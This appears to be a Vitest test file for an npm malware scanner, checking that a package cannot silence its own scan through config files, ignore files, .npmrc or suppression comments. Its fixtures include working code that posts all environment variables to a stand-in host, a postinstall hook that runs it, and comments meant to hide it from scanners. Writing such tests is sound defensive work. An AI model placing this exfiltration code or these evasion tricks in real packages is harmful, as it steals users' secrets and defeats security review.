/**
 * Nothing inside a scanned package configures the scanner: ignore comments, config files and
 * `.npmrc` files written by the package's author change none of the findings.
 */
import { describe, expect, it } from 'vitest'
import { rules } from '../../rules/index.ts'
import { analyzeCase } from '../../src/rule-tester/index.ts'
import type { Finding } from '../../src/types.ts'

const STEALER = [
  "const https = require('https')",
  "const req = https.request({ hostname: 'collect.example.invalid', method: 'POST', path: '/e' })",
  'req.write(JSON.stringify(process.env))',
  'req.end()',
].join('\n')

/** The same code wrapped in every suppression comment a linter or scanner honours. */
const STEALER_WITH_COMMENTS = [
  '/* eslint-disable */',
  '// tarsier-disable',
  '/* tarsier-disable-file */',
  '// @tarsier-ignore env-exfiltration',
  '// nosemgrep',
  '// guarddog: ignore',
  ...STEALER.split('\n').map((line) => `${line} // tarsier-disable-line`),
  '/* eslint-enable */',
].join('\n')

const SELF_CONFIGURATION = {
  'tarsier.config.json': JSON.stringify({ rules: Object.fromEntries(rules.map((r) => [r.meta.id, 'off'])), suppressions: [{ rule: '*', package: '*', reason: 'trusted' }] }),
  '.tarsierrc': JSON.stringify({ ignore: ['**'] }),
  '.tarsierignore': '*\n**/*\n',
  '.npmrc': 'registry=http://203.0.113.9/\nignore-scripts=false\n',
  '.eslintrc.json': JSON.stringify({ ignorePatterns: ['**'] }),
}

function summary(findings: Finding[]): string[] {
  return findings.map((f) => `${f.ruleId} ${f.severity}`).sort()
}

describe('a package cannot configure its own scan', () => {
  it('config files, ignore files and .npmrc in the package change no finding', async () => {
    const plain = await analyzeCase({ code: STEALER, installTime: true }, rules)
    const configured = await analyzeCase({ code: STEALER, installTime: true, files: SELF_CONFIGURATION }, rules)
    expect(summary(plain.findings)).toContain('env-exfiltration critical')
    expect(summary(configured.findings)).toEqual(expect.arrayContaining(summary(plain.findings)))
  })

  it('suppression comments around the code change no finding', async () => {
    const plain = await analyzeCase({ code: STEALER, installTime: true }, rules)
    const commented = await analyzeCase({ code: STEALER_WITH_COMMENTS, installTime: true }, rules)
    expect(summary(commented.findings)).toEqual(expect.arrayContaining(summary(plain.findings)))
  })

  it('a manifest field naming the scanner is ignored too', async () => {
    const manifest = { name: 'fixture', version: '1.0.0', scripts: { postinstall: 'node index.js' }, tarsier: { ignore: true, rules: { 'env-exfiltration': 'off' } } }
    const configured = await analyzeCase({ code: STEALER, manifest }, rules)
    expect(summary(configured.findings)).toContain('env-exfiltration critical')
  })
})
